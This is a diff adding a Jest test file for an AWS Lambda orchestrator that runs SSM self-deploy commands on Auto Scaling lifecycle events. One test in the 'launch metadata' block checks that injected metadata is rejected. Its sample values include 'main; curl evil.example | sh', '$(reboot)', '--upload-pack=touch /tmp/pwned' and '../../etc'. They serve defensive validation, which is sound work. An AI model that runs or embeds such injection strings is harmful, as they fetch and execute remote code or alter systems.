@@ -1,0 +1,364 @@
+import {
+  CompleteLifecycleActionCommand,
+  RecordLifecycleActionHeartbeatCommand,
+} from '@aws-sdk/client-auto-scaling';
+import { ListCommandsCommand, SendCommandCommand } from '@aws-sdk/client-ssm';
+import { route } from '../../functions/orchestrator/router';
+import { autoScaling, awsError, fixture, harness, INSTANCE, noActiveAction, ssm, TOKEN } from './support';
+
+const NEW_COMMAND = 'aaaaaaaa-1111-2222-3333-444444444444';
+
+function agentReadyAfter(failures: number) {
+  let chain = ssm.on(SendCommandCommand);
+  for (let i = 0; i < failures; i++) {
+    chain = chain.rejectsOnce(
+      awsError('InvalidInstanceId', 'Instances [[i-1234567890abcdef0]] not in a valid state'),
+    );
+  }
+  chain.resolves({ Command: { CommandId: NEW_COMMAND } });
+}
+
+describe('launch lifecycle action', () => {
+  it('starts the self-deploy on the new instance with the lifecycle context as document parameters', async () => {
+    const { deps, metrics } = harness();
+    ssm.on(ListCommandsCommand).resolves({ Commands: [] });
+    agentReadyAfter(0);
+
+    const result = await route(deps, fixture('launch'));
+
+    expect(result).toMatchObject({
+      kind: 'lifecycle',
+      result: { outcome: 'started', commandId: NEW_COMMAND },
+    });
+    expect(ssm).toHaveReceivedCommandTimes(SendCommandCommand, 1);
+    expect(ssm).toHaveReceivedCommandWith(SendCommandCommand, {
+      DocumentName: 'SelfDeploy',
+      InstanceIds: [INSTANCE],
+      Parameters: {
+        environment: ['production'],
+        revision: [''],
+        appUser: ['ec2-user'],
+        deployPath: ['/var/www/app/deploy'],
+        appPath: ['/var/www/app'],
+        executionTimeout: ['1800'],
+        autoScalingGroupName: ['web'],
+        lifecycleHookName: ['selfdeploy-launch'],
+        lifecycleActionToken: [TOKEN],
+      },
+      CloudWatchOutputConfig: {
+        CloudWatchOutputEnabled: true,
+        CloudWatchLogGroupName: '/selfdeploy/commands',
+      },
+      Comment: 'selfdeploy launch AutoScalingGroup',
+    });
+    expect(autoScaling.calls()).toHaveLength(0);
+    expect(metrics.map((m) => m.name)).toEqual(['BootstrapStarted', 'AgentWait']);
+  });
+
+  it('uses the group settings of the group that launched', async () => {
+    const { deps } = harness();
+    ssm.on(ListCommandsCommand).resolves({ Commands: [] });
+    agentReadyAfter(0);
+    const event = fixture('launch');
+    Object.assign(event.detail, { AutoScalingGroupName: 'api', LifecycleHookName: 'api-launch' });
+
+    await route(deps, event);
+
+    expect(ssm).toHaveReceivedCommandWith(SendCommandCommand, {
+      Parameters: expect.objectContaining({
+        environment: ['staging'],
+        appUser: ['deploy'],
+        deployPath: ['/srv/api/deploy'],
+        appPath: ['/srv/api'],
+        autoScalingGroupName: ['api'],
+      }),
+    });
+  });
+
+  it('waits for a late SSM agent with growing jittered backoff, then deploys', async () => {
+    const { deps, sleeps, metrics } = harness();
+    ssm.on(ListCommandsCommand).resolves({ Commands: [] });
+    agentReadyAfter(4);
+
+    const result = await route(deps, fixture('launch'));
+
+    expect(result).toMatchObject({ result: { outcome: 'started', commandId: NEW_COMMAND } });
+    expect(ssm).toHaveReceivedCommandTimes(SendCommandCommand, 5);
+    expect(sleeps).toEqual([500, 1000, 2000, 4000]);
+    expect(metrics).toContainEqual({ name: 'AgentWait', group: 'web', value: 7.5, unit: 'Seconds' });
+  });
+
+  it('heartbeats the hook while the agent wait gets long', async () => {
+    // api's hook times out after 60 s, so the wait heartbeats every 30 s.
+    const { deps } = harness({ remainingMs: 900_000 });
+    ssm.on(ListCommandsCommand).resolves({ Commands: [] });
+    agentReadyAfter(8);
+    autoScaling.on(RecordLifecycleActionHeartbeatCommand).resolves({});
+    const event = fixture('launch');
+    Object.assign(event.detail, { AutoScalingGroupName: 'api', LifecycleHookName: 'api-launch' });
+
+    const result = await route(deps, event);
+
+    expect(result).toMatchObject({ result: { outcome: 'started' } });
+    expect(autoScaling.commandCalls(RecordLifecycleActionHeartbeatCommand).length).toBeGreaterThanOrEqual(1);
+    expect(autoScaling).toHaveReceivedCommandWith(RecordLifecycleActionHeartbeatCommand, {
+      AutoScalingGroupName: 'api',
+      LifecycleHookName: 'api-launch',
+      LifecycleActionToken: TOKEN,
+    });
+  });
+
+  it('stops cleanly at the deadline when the agent never registers, leaving the instance to the reconciler', async () => {
+    const { deps, logs } = harness({
+      config: {
+        documentName: 'SelfDeploy',
+        agentWaitSeconds: 60,
+        groups: { web: { lifecycleHookName: 'selfdeploy-launch' } },
+      },
+    });
+    ssm.on(ListCommandsCommand).resolves({ Commands: [] });
+    ssm.on(SendCommandCommand).rejects(awsError('InvalidInstanceId', 'Instances not in a valid state'));
+
+    const result = await route(deps, fixture('launch'));
+
+    expect(result).toMatchObject({ result: { outcome: 'agent-not-ready', agentWaitSeconds: 60 } });
+    expect(autoScaling).not.toHaveReceivedCommand(CompleteLifecycleActionCommand);
+    expect(logs.warn).toHaveBeenCalledWith(
+      expect.stringContaining('leaving this instance to the reconciler'),
+      expect.objectContaining({ instanceId: INSTANCE }),
+    );
+  });
+
+  it('never waits past the Lambda invocation it runs in', async () => {
+    const { deps } = harness({ remainingMs: 30_000 });
+    ssm.on(ListCommandsCommand).resolves({ Commands: [] });
+    ssm.on(SendCommandCommand).rejects(awsError('InvalidInstanceId', 'Instances not in a valid state'));
+
+    const result = await route(deps, fixture('launch'));
+
+    // 30 s left minus the 10 s kept to finish cleanly.
+    expect(result).toMatchObject({ result: { outcome: 'agent-not-ready', agentWaitSeconds: 20 } });
+  });
+
+  it('stops waiting when the lifecycle action ends meanwhile', async () => {
+    const { deps } = harness();
+    ssm.on(ListCommandsCommand).resolves({ Commands: [] });
+    ssm.on(SendCommandCommand).rejects(awsError('InvalidInstanceId', 'Instances not in a valid state'));
+    autoScaling.on(RecordLifecycleActionHeartbeatCommand).rejects(noActiveAction());
+    const event = fixture('launch');
+    Object.assign(event.detail, { AutoScalingGroupName: 'api', LifecycleHookName: 'api-launch' });
+
+    const result = await route(deps, event);
+
+    expect(result).toMatchObject({ result: { outcome: 'action-ended' } });
+  });
+
+  it('lets errors other than a missing agent fail the invocation so Lambda retries it', async () => {
+    const { deps } = harness();
+    ssm.on(ListCommandsCommand).resolves({ Commands: [] });
+    ssm.on(SendCommandCommand).rejects(awsError('InvalidDocument', 'Document SelfDeploy does not exist'));
+
+    await expect(route(deps, fixture('launch'))).rejects.toThrow('Document SelfDeploy does not exist');
+  });
+
+  it('starts no second command for a duplicate delivery of the same lifecycle action', async () => {
+    const { deps } = harness();
+    ssm.on(ListCommandsCommand).resolves({
+      Commands: [
+        { CommandId: 'bbbbbbbb-1111-2222-3333-444444444444', Parameters: { lifecycleActionToken: [TOKEN] } },
+      ],
+    });
+
+    const result = await route(deps, fixture('launch'));
+
+    expect(result).toMatchObject({
+      result: { outcome: 'duplicate', commandId: 'bbbbbbbb-1111-2222-3333-444444444444' },
+    });
+    expect(ssm).not.toHaveReceivedCommand(SendCommandCommand);
+    expect(ssm).toHaveReceivedCommandWith(ListCommandsCommand, {
+      InstanceId: INSTANCE,
+      Filters: [{ key: 'DocumentName', value: 'SelfDeploy' }],
+    });
+  });
+
+  it('deploys again for a new lifecycle action on an instance that was deployed before', async () => {
+    const { deps } = harness();
+    ssm.on(ListCommandsCommand).resolves({
+      Commands: [
+        {
+          CommandId: 'bbbbbbbb-1111-2222-3333-444444444444',
+          Parameters: { lifecycleActionToken: ['11111111-2222-3333-4444-555555555555'] },
+        },
+      ],
+    });
+    agentReadyAfter(0);
+
+    const result = await route(deps, fixture('launch'));
+
+    expect(result).toMatchObject({ result: { outcome: 'started' } });
+  });
+});
+
+describe('launch metadata', () => {
+  it('deploys the revision a JSON override names', async () => {
+    const { deps } = harness();
+    ssm.on(ListCommandsCommand).resolves({ Commands: [] });
+    agentReadyAfter(0);
+
+    await route(deps, fixture('launch-with-revision-override'));
+
+    expect(ssm).toHaveReceivedCommandWith(SendCommandCommand, {
+      Parameters: expect.objectContaining({ revision: ['v2.4.1'], environment: ['production'] }),
+    });
+  });
+
+  it('treats free-text metadata as a note and deploys with the group settings', async () => {
+    const { deps, logs } = harness();
+    ssm.on(ListCommandsCommand).resolves({ Commands: [] });
+    agentReadyAfter(0);
+    const event = fixture('launch');
+    event.detail.NotificationMetadata = 'scale-out for the Black Friday sale; ping #ops';
+
+    const result = await route(deps, event);
+
+    expect(result).toMatchObject({ result: { outcome: 'started' } });
+    expect(ssm).toHaveReceivedCommandWith(SendCommandCommand, {
+      Parameters: expect.objectContaining({ revision: [''], environment: ['production'] }),
+    });
+    expect(logs.info).toHaveBeenCalledWith(
+      'launch note',
+      expect.objectContaining({ note: expect.stringContaining('Black Friday') }),
+    );
+  });
+
+  it.each([
+    ['a shell command in the revision', { revision: 'main; curl evil.example | sh' }],
+    ['an option-like revision', { revision: '--upload-pack=touch /tmp/pwned' }],
+    ['command substitution in the environment', { environment: '$(reboot)' }],
+    ['a path in the environment', { environment: '../../etc' }],
+    ['a non-string revision', { revision: 42 }],
+    ['an unknown override', { appUser: 'root' }],
+  ])('abandons the instance and sends no command for %s', async (_case, overrides) => {
+    const { deps, metrics, logs } = harness();
+    autoScaling.on(CompleteLifecycleActionCommand).resolves({});
+    const event = fixture('launch');
+    event.detail.NotificationMetadata = JSON.stringify(overrides);
+
+    const result = await route(deps, event);
+
+    expect(result).toMatchObject({ result: { outcome: 'abandoned' } });
+    expect(ssm.calls()).toHaveLength(0);
+    expect(autoScaling).toHaveReceivedCommandWith(CompleteLifecycleActionCommand, {
+      AutoScalingGroupName: 'web',
+      LifecycleHookName: 'selfdeploy-launch',
+      LifecycleActionToken: TOKEN,
+      LifecycleActionResult: 'ABANDON',
+    });
+    expect(metrics).toContainEqual({ name: 'BootstrapFailed', group: 'web', value: 1, unit: 'Count' });
+    expect(logs.error).toHaveBeenCalledWith(
+      expect.stringContaining('NotificationMetadata overrides rejected'),
+      expect.anything(),
+    );
+  });
+});
+
+describe('launches selfdeploy does not deploy', () => {
+  it.each([
+    ['a terminate transition', 'terminate'],
+    ['the Auto Scaling test notification', 'test-notification'],
+  ])('ignores %s without calling AWS', async (_case, name) => {
+    const { deps } = harness();
+
+    const result = await route(deps, fixture(name));
+
+    expect(JSON.stringify(result)).toMatch(/ignored/);
+    expect(ssm.calls().length + autoScaling.calls().length).toBe(0);
+  });
+
+  it('ignores a group it does not manage', async () => {
+    const { deps, logs } = harness();
+    const event = fixture('launch');
+    event.detail.AutoScalingGroupName = 'batch-workers';
+
+    const result = await route(deps, event);
+
+    expect(result).toMatchObject({
+      result: { outcome: 'ignored', reason: 'group batch-workers is not managed by selfdeploy' },
+    });
+    expect(ssm.calls().length + autoScaling.calls().length).toBe(0);
+    expect(logs.info).toHaveBeenCalledTimes(1);
+  });
+
+  it("ignores another hook's action on a managed group", async () => {
+    const { deps } = harness();
+    const event = fixture('launch');
+    event.detail.LifecycleHookName = 'some-other-hook';
+
+    const result = await route(deps, event);
+
+    expect(result).toMatchObject({ result: { outcome: 'ignored' } });
+    expect(ssm.calls().length + autoScaling.calls().length).toBe(0);
+  });
+});
+
+describe('warm pools', () => {
+  const withPolicy = (warmPool: string) => ({
+    documentName: 'SelfDeploy',
+    groups: { web: { lifecycleHookName: 'selfdeploy-launch', warmPool } },
+  });
+
+  it.each(['launch-into-warm-pool', 'launch-from-warm-pool'])(
+    'deploys on both transitions by default (%s)',
+    async (name) => {
+      const { deps } = harness();
+      ssm.on(ListCommandsCommand).resolves({ Commands: [] });
+      agentReadyAfter(0);
+
+      await route(deps, fixture(name));
+
+      expect(ssm).toHaveReceivedCommandTimes(SendCommandCommand, 1);
+      expect(autoScaling).not.toHaveReceivedCommand(CompleteLifecycleActionCommand);
+    },
+  );
+
+  it('records the warm pool as the place the deploy was for', async () => {
+    const { deps } = harness();
+    ssm.on(ListCommandsCommand).resolves({ Commands: [] });
+    agentReadyAfter(0);
+
+    await route(deps, fixture('launch-into-warm-pool'));
+
+    expect(ssm).toHaveReceivedCommandWith(SendCommandCommand, { Comment: 'selfdeploy launch WarmPool' });
+  });
+
+  it('deploy-on-service lets an instance into the warm pool at once and deploys when it enters service', async () => {
+    const { deps } = harness({ config: withPolicy('deploy-on-service') as never });
+    autoScaling.on(CompleteLifecycleActionCommand).resolves({});
+    ssm.on(ListCommandsCommand).resolves({ Commands: [] });
+    agentReadyAfter(0);
+
+    const intoPool = await route(deps, fixture('launch-into-warm-pool'));
+    expect(intoPool).toMatchObject({ result: { outcome: 'continued-without-deploy' } });
+    expect(autoScaling).toHaveReceivedCommandWith(CompleteLifecycleActionCommand, {
+      LifecycleActionResult: 'CONTINUE',
+    });
+    expect(ssm).not.toHaveReceivedCommand(SendCommandCommand);
+
+    const intoService = await route(deps, fixture('launch-from-warm-pool'));
+    expect(intoService).toMatchObject({ result: { outcome: 'started' } });
+  });
+
+  it('deploy-on-warm-pool deploys into the pool and lets the deployed instance into service at once', async () => {
+    const { deps } = harness({ config: withPolicy('deploy-on-warm-pool') as never });
+    autoScaling.on(CompleteLifecycleActionCommand).resolves({});
+    ssm.on(ListCommandsCommand).resolves({ Commands: [] });
+    agentReadyAfter(0);
+
+    const intoPool = await route(deps, fixture('launch-into-warm-pool'));
+    expect(intoPool).toMatchObject({ result: { outcome: 'started' } });
+
+    const intoService = await route(deps, fixture('launch-from-warm-pool'));
+    expect(intoService).toMatchObject({ result: { outcome: 'continued-without-deploy' } });
+    expect(ssm).toHaveReceivedCommandTimes(SendCommandCommand, 1);
+  });
+});
